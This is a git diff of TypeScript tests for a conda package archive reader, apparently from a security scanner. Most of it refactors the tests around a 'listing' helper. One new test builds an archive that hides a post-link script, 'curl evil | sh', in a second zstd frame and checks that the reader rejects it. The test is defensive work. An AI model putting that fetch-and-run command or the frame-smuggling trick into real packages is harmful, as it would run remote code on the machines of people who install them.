@@ -4,6 +4,7 @@ import { zstdCompressSync } from 'node:zlib';
 import { readPackageArchive } from '../../../src/artifacts/archive.ts';
 import { readCondaArchive } from '../../../src/artifacts/conda-archive.ts';
 import { CvebuildError, type ErrorCode } from '../../../src/errors.ts';
+import { listing } from '../../helpers/archive-entries.ts';
 import { writeTemp } from '../../helpers/temp.ts';
 import { zipEntries } from '../../helpers/zip-writer.ts';
 import { condaBytes, INDEX_JSON, tarBytes } from './archive-builder.ts';
@@ -38,9 +39,10 @@ describe('readCondaArchive', () => {
         ],
       }),
     );
-    const scan = await readCondaArchive(path, { select: (entry) => entry.path.startsWith('bin/.') });
+    const { entries, options } = listing({ select: (entry) => entry.path.startsWith('bin/.') });
+    const scan = await readCondaArchive(path, options);
     assert.deepEqual(
-      scan.entries.map(({ path, type, member }) => `${member}:${type}:${path}`),
+      entries.map(({ path, type, member }) => `${member}:${type}:${path}`),
       [
         'info:file:info/index.json',
         'pkg:directory:bin',
@@ -48,8 +50,8 @@ describe('readCondaArchive', () => {
         'pkg:symlink:lib/libdemo.so',
       ],
     );
-    assert.equal(scan.entries[2]?.mode, 0o755);
-    assert.equal(scan.entries[3]?.linkTarget, 'libdemo.so.1');
+    assert.equal(entries[2]?.mode, 0o755);
+    assert.equal(entries[3]?.linkTarget, 'libdemo.so.1');
     const content = scan.contents.get('bin/.demo-post-link.sh');
     assert.equal(content?.head.toString(), SCRIPT);
     assert.equal(content?.size, Buffer.byteLength(SCRIPT));
@@ -72,9 +74,10 @@ describe('readCondaArchive', () => {
         ],
       }),
     );
-    const scan = await readCondaArchive(path, { select: (entry) => entry.type === 'unknown' });
+    const { entries, options } = listing({ select: (entry) => entry.type === 'unknown' });
+    const scan = await readCondaArchive(path, options);
     assert.deepEqual(
-      scan.entries.map(({ path, type, typeflag }) => `${path}:${type}${typeflag ? `:${typeflag}` : ''}`),
+      entries.map(({ path, type, typeflag }) => `${path}:${type}${typeflag ? `:${typeflag}` : ''}`),
       ['dev/null:special', 'dev/sda:special', 'pipe:special', 'sparse:unknown:S', 'control:unknown:\\x01'],
     );
     // POSIX readers extract an unknown type as a regular file, so its content is read like one.
@@ -93,9 +96,10 @@ describe('readCondaArchive', () => {
         pkg: [{ name: 'placeholder', paxPath: longName, data: 'x' }],
       }),
     );
-    const scan = await readCondaArchive(path);
+    const { entries, options } = listing();
+    await readCondaArchive(path, options);
     assert.deepEqual(
-      scan.entries.map((entry) => entry.path),
+      entries.map((entry) => entry.path),
       ['info/index.json', longName],
     );
 
@@ -103,8 +107,10 @@ describe('readCondaArchive', () => {
       `${STEM}.conda`,
       condaBytes({ stem: STEM, info: [{ name: 'info/index.json', data: '{}' }] }),
     );
+    const infoOnlyListing = listing();
+    await readPackageArchive(infoOnly, infoOnlyListing.options);
     assert.deepEqual(
-      (await readPackageArchive(infoOnly)).entries.map((entry) => entry.member),
+      infoOnlyListing.entries.map((entry) => entry.member),
       ['info'],
     );
   });
@@ -122,15 +128,30 @@ describe('readCondaArchive', () => {
         ],
       }),
     );
-    const scan = await readCondaArchive(path);
+    const { entries, options } = listing();
+    await readCondaArchive(path, options);
     assert.deepEqual(
-      scan.entries.map((entry) => [entry.path, entry.size]),
+      entries.map((entry) => [entry.path, entry.size]),
       [
         ['info/index.json', INDEX_JSON('demo').length],
         ['share/real-name.txt', 1],
         ['second', 1],
       ],
     );
+  });
+
+  it('refuses data after the first zstd frame, which Node would not decode and rattler would install', async () => {
+    const first = zstdCompressSync(tarBytes([{ name: 'lib/libdemo.so', data: 'x' }], { endMarker: false }));
+    const second = zstdCompressSync(tarBytes([{ name: 'bin/.demo-post-link.sh', data: 'curl evil | sh' }]));
+    const path = writeTemp(
+      `${STEM}.conda`,
+      zipEntries([
+        { name: 'metadata.json', data: '{"conda_pkg_format_version": 2}' },
+        { name: `pkg-${STEM}.tar.zst`, data: Buffer.concat([first, second]) },
+        { name: `info-${STEM}.tar.zst`, data: zstdCompressSync(tarBytes([{ name: 'info/index.json', data: '{}' }])) },
+      ]),
+    );
+    await rejects(readCondaArchive(path), 'ARCHIVE_INVALID', `${second.length} bytes after its first zstd frame`);
   });
 
   it('keeps only maxReadBytes of a long entry but hashes all of it', async () => {
